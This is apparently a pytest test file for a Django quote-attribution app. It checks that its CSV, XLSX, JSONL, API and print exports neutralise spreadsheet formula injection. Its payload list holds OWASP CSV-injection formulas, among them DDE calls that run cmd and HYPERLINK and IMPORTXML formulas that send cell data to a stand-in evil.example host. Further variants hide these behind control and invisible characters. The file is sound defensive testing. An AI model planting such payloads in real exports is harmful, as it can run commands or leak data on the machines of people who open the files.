"""Formula injection: every export format against a list of payloads.

The payloads are OWASP's CSV-injection examples, each also behind every C0 control character, DEL,
C1 controls, whitespace and invisible characters (a spreadsheet, or openpyxl, drops those and then sees
the formula), plus the full-width forms of the trigger characters. They are stored straight into the
database (as data from before validation existed would be) as speaker names and titles, article titles,
sources and quote text, then exported. The assertions do not use the export code's own test: a cell is
safe when, with every control, whitespace and format character removed, it starts with a single quote
or with no trigger at all, and XLSX is opened with openpyxl to check that no cell is a formula.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from typing import Any

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from attribution import exports
from attribution.models import Article, Person, Quote

pytestmark = pytest.mark.django_db

OWASP = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "\t=1+2",
    "\r=1+2",
]
# Characters that can stand before the formula and be dropped or skipped on the way to a spreadsheet.
PREFIXES = (
    [chr(c) for c in range(0x00, 0x20)]
    + ["\x7f", "\x85", "\x9f", " ", "\u00a0", "\u200b", "\u200e", "\u202e", "\u2060", "\ufeff", "\u3000"]
    + ["\x01\x02", " \x01", "\x0b\t"]
)
FULL_WIDTH = ["＝1+2", "＋1+2", "－1+2", "＠SUM(1+1)", "﹦1+2", '\x01＝HYPERLINK("http://evil.example")']
PAYLOADS = OWASP + [prefix + '=HYPERLINK("http://evil.example")' for prefix in PREFIXES] + FULL_WIDTH
PAYLOADS += [prefix + "+1+2" for prefix in ("\x01", "\x1f", "\x1c")] + ["\x01-1", "\x08@SUM(1)"]
TRIGGERS = set("=+-@＝＋－＠﹦﹢﹣")


def visible(value: str) -> str:
    """The value without the control, whitespace and format characters a reader might skip."""
    return "".join(ch for ch in value if unicodedata.category(ch)[0] not in "CZ" and not ch.isspace())


def assert_safe_cell(value: Any) -> None:
    if not isinstance(value, str):
        return
    shown = visible(value)
    assert shown[:1] not in TRIGGERS or value.startswith("'"), repr(value)
    assert not value.startswith(tuple(TRIGGERS)), repr(value)


def storable(payload: str) -> str:
    # PostgreSQL text cannot hold NUL at all, so there the NUL-prefixed payloads cannot exist in the database.
    return payload.replace("\x00", "") if connection.vendor == "postgresql" else payload


@pytest.fixture
def poisoned(reviewer: Any) -> list[Quote]:
    """One verified quote per payload: the payload is the speaker's name and title, the article's title and
    source, and the quote's own text."""
    quotes = []
    for n, raw in enumerate(PAYLOADS):
        payload = storable(raw)
        spoken = payload.replace("\x00", "")  # SQLite's length() stops at a NUL: the span check would fail
        body = f"Headline {n}\n\n{spoken} said the speaker."
        article = Article.objects.create(
            title=payload,
            source=payload,
            byline=payload,
            body=body,
            language="en",
            url=f"https://e.example/{n}",
        )
        person = Person.objects.create(name=payload, title=payload)
        start = body.index(spoken)
        quotes.append(Quote.add_by_hand(article, start, start + len(spoken), by=reviewer, speaker=person))
    return quotes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised_in_a_spreadsheet_cell(payload: str) -> None:
    row = dict.fromkeys(exports.COLUMN_KEYS, payload)
    for cell in exports.spreadsheet_cells(row):
        assert_safe_cell(cell)
        # The text itself survives, cleaned only of what XLSX cannot hold.
        assert visible(payload) in visible(cell)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_csv_exports_have_no_formula_cells(
    client_for: Any, editor: Any, poisoned: list[Quote], fmt: str
) -> None:
    response = client_for(editor).get(reverse("export_quotes"), {"format": fmt})
    assert response.status_code == 200
    data = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert_safe_cell(cell)


def test_xlsx_export_has_no_formula_cells(client_for: Any, editor: Any, poisoned: list[Quote]) -> None:
    response = client_for(editor).get(reverse("export_quotes"), {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            assert_safe_cell(cell.value)
    # The speaker column still says who spoke (payload text kept, behind the quote).
    speakers = {visible(row[1].value).lstrip("'") for row in rows}
    assert speakers == {visible(storable(p)) for p in PAYLOADS}


def test_export_command_xlsx_has_no_formula_cells(poisoned: list[Quote], tmp_path: Any) -> None:
    from django.core.management import call_command

    out = tmp_path / "quotes.xlsx"
    call_command("export_quotes", "--format", "xlsx", "-o", str(out), stderr=io.StringIO())
    sheet = load_workbook(out).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            assert_safe_cell(cell.value)


def test_export_command_csv_has_no_formula_cells(poisoned: list[Quote], tmp_path: Any) -> None:
    from django.core.management import call_command

    out = tmp_path / "quotes.csv"
    call_command("export_quotes", "--format", "csv", "-o", str(out), stderr=io.StringIO())
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert_safe_cell(cell)


def test_jsonl_and_api_keep_the_data_exact(client_for: Any, editor: Any, poisoned: list[Quote]) -> None:
    """JSON is data for programs, not a spreadsheet: the values come back exactly as stored."""
    client = client_for(editor)
    data = b"".join(client.get(reverse("export_quotes"), {"format": "jsonl"}).streaming_content)
    # split on \n only: U+2028 and U+0085 inside a value are raw (ensure_ascii=False) but not line ends
    lines = [json.loads(line) for line in data.decode("utf-8").split("\n") if line]
    assert {line["speaker"] for line in lines} == {storable(p) for p in PAYLOADS}
    api = client.get(reverse("api_quotes"), {"page_size": 200}).json()
    assert {q["speaker"]["name"] for q in api["results"]} == {storable(p) for p in PAYLOADS}


def test_print_page_shows_payloads_as_escaped_text(
    client_for: Any, editor: Any, poisoned: list[Quote]
) -> None:
    response = client_for(editor).get(reverse("print_quotes"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "&quot;http://evil.example/?x=&quot;&amp;A1" in html
    assert '"http://evil.example' not in html
